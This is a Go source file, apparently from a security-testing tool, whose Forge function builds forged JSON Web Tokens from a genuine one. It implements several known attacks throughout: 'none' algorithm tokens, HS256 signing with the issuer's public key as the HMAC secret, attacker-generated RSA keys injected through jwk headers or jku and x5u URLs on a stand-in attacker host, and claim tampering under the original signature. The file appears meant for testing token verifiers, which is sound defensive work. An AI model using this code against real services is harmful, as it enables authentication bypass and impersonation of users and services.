package attacks

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/go-jose/go-jose/v4"

	"github.com/meshbreach/meshbreach/attacker"
)

// The keys that a forged token can be signed with.
const (
	keyIssuer   = "issuer"
	keyAttacker = "attacker"
	keyHMAC     = "public-as-hmac"
)

// Forge makes from a genuine token what an attacker can make of it with the
// issuer's public key and no private one:
//
//   - Alg "none", in any case of its letters: no signature;
//   - Key "public-as-hmac": HS256 with the text issuerPEM as the secret;
//   - Key "attacker", or a Header that brings a key (jwk, jku, x5u): RS256 by
//     a fresh key. A jwk that is text becomes that key's public half; a jku or
//     x5u that is no URL becomes one of the attacker's;
//   - else Tamper and Header are changed under the old signature.
//
// Tamper, Header and, unless the issuer signed, Kid hold for all of them. What
// only the issuer can sign (Issuer, Audience, Expires, Starts) is in the
// genuine token already. A token with nothing to forge comes back unchanged.
// Errors never hold a part of the token.
func Forge(genuine string, spec attacker.Token, issuerPEM string) (string, error) {
	if err := checkForgery(spec); err != nil {
		return "", err
	}
	key := signer(spec)
	if key == keyIssuer && spec.Alg == "" && len(spec.Tamper) == 0 && len(spec.Header) == 0 {
		return genuine, nil
	}
	t, err := parse(genuine)
	if err != nil {
		return "", err
	}
	if err := t.tamper(spec.Tamper); err != nil {
		return "", err
	}
	switch {
	case spec.Alg != "":
		return t.unsigned(spec)
	case key == keyHMAC:
		if issuerPEM == "" {
			return "", errors.New("the issuer's public key is not held")
		}
		return t.signed(spec, jose.HS256, []byte(issuerPEM), nil)
	case key == keyAttacker:
		own, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			return "", fmt.Errorf("make a key: %w", err)
		}
		return t.signed(spec, jose.RS256, own, own.Public())
	default:
		return t.resealed(spec)
	}
}

// checkForgery refuses words that nobody knows and wishes that exclude each
// other.
func checkForgery(spec attacker.Token) error {
	return errors.Join(
		oneOf("key", spec.Key, keyIssuer, keyAttacker, keyHMAC),
		refuse(spec.Alg != "" && !strings.EqualFold(spec.Alg, "none"), "alg can only be none: the others follow from key"),
		refuse(spec.Alg != "" && spec.Key != "", "alg none has no key"),
		refuse(spec.Key == keyHMAC && bringsKey(spec.Header), "public-as-hmac has no key to bring along"),
	)
}

func signer(spec attacker.Token) string {
	switch {
	case spec.Key != "":
		return spec.Key
	case bringsKey(spec.Header):
		return keyAttacker
	default:
		return keyIssuer
	}
}

func bringsKey(header map[string]any) bool {
	return slices.ContainsFunc([]string{"jwk", "jku", "x5u"}, func(name string) bool {
		_, ok := header[name]
		return ok
	})
}

// A jwt is a token taken apart, not verified.
type jwt struct {
	header    map[string]any
	claims    []byte // JSON, as it came while nothing is tampered with
	parts     [3]string
	untouched bool
}

func parse(token string) (*jwt, error) {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return nil, errors.New("the token is not a signed JWT of three parts")
	}
	t := &jwt{parts: [3]string(parts), untouched: true}
	head, err := base64.RawURLEncoding.DecodeString(parts[0])
	if err != nil {
		return nil, errors.New("the token's header is not base64url")
	}
	if t.claims, err = base64.RawURLEncoding.DecodeString(parts[1]); err != nil {
		return nil, errors.New("the token's claims are not base64url")
	}
	if t.header, err = object(head); err != nil {
		return nil, fmt.Errorf("the token's header: %w", err)
	}
	if _, err = object(t.claims); err != nil {
		return nil, fmt.Errorf("the token's claims: %w", err)
	}
	return t, nil
}

// object reads a JSON object. Numbers stay as they were written. The error
// quotes nothing, because what is read is a part of a secret.
func object(raw []byte) (map[string]any, error) {
	var m map[string]any
	d := json.NewDecoder(bytes.NewReader(raw))
	d.UseNumber()
	if err := d.Decode(&m); err != nil || m == nil || d.More() {
		return nil, errors.New("not a JSON object")
	}
	return m, nil
}

// tamper changes claims. Claims that already are as wished are left alone, so
// that a signature over them stays right.
func (t *jwt) tamper(with map[string]any) error {
	claims, err := object(t.claims)
	if err != nil {
		return err
	}
	if holds(claims, with) {
		return nil
	}
	maps.Copy(claims, with)
	t.untouched = false
	if t.claims, err = json.Marshal(claims); err != nil {
		return errors.New("the changed claims are not JSON")
	}
	return nil
}

func (t *jwt) unsigned(spec attacker.Token) (string, error) {
	h := t.headerFor(spec, nil)
	h["alg"] = spec.Alg
	return seal(h, t.claims, "")
}

// resealed keeps the signature, which then covers something else.
func (t *jwt) resealed(spec attacker.Token) (string, error) {
	if holds(t.header, spec.Header) {
		if t.untouched {
			return strings.Join(t.parts[:], "."), nil
		}
		return t.parts[0] + "." + base64.RawURLEncoding.EncodeToString(t.claims) + "." + t.parts[2], nil
	}
	maps.Copy(t.header, spec.Header)
	return seal(t.header, t.claims, t.parts[2])
}

func (t *jwt) signed(spec attacker.Token, alg jose.SignatureAlgorithm, key, public any) (string, error) {
	opts := &jose.SignerOptions{}
	for name, value := range t.headerFor(spec, public) {
		if name != "alg" {
			opts.WithHeader(jose.HeaderKey(name), value)
		}
	}
	s, err := jose.NewSigner(jose.SigningKey{Algorithm: alg, Key: key}, opts)
	if err != nil {
		return "", fmt.Errorf("make a signer: %w", err)
	}
	signed, err := s.Sign(t.claims)
	if err != nil {
		return "", errors.New("the token's header cannot be signed")
	}
	out, err := signed.CompactSerialize()
	if err != nil {
		return "", errors.New("the token's header has no compact form")
	}
	return out, nil
}

// headerFor is the genuine header with the wished fields. The genuine key id
// stays unless another is asked for: a verifier should find a key, and then
// see that it did not sign this.
func (t *jwt) headerFor(spec attacker.Token, public any) map[string]any {
	h := maps.Clone(t.header)
	if spec.Kid != "" {
		h["kid"] = spec.Kid
	}
	for name, value := range spec.Header {
		text, isText := value.(string)
		switch {
		case name == "jwk" && isText && public != nil:
			kid, _ := h["kid"].(string)
			value = jose.JSONWebKey{Key: public, KeyID: kid, Algorithm: string(jose.RS256), Use: "sig"}
		case name == "jku" && isText && !strings.Contains(text, "://"):
			value = "https://keys.attacker.test/jwks.json"
		case name == "x5u" && isText && !strings.Contains(text, "://"):
			value = "https://keys.attacker.test/leaf.pem"
		}
		h[name] = value
	}
	return h
}

// holds says whether all wished fields are there and as wished.
func holds(have, want map[string]any) bool {
	for name, value := range want {
		now, ok := have[name]
		if !ok || !sameJSON(now, value) {
			return false
		}
	}
	return true
}

func sameJSON(a, b any) bool {
	one, errA := json.Marshal(a)
	two, errB := json.Marshal(b)
	return errA == nil && errB == nil && bytes.Equal(one, two)
}

func seal(header map[string]any, claims []byte, signature string) (string, error) {
	h, err := json.Marshal(header)
	if err != nil {
		return "", errors.New("the token's header is not JSON")
	}
	return base64.RawURLEncoding.EncodeToString(h) + "." + base64.RawURLEncoding.EncodeToString(claims) + "." + signature, nil
}
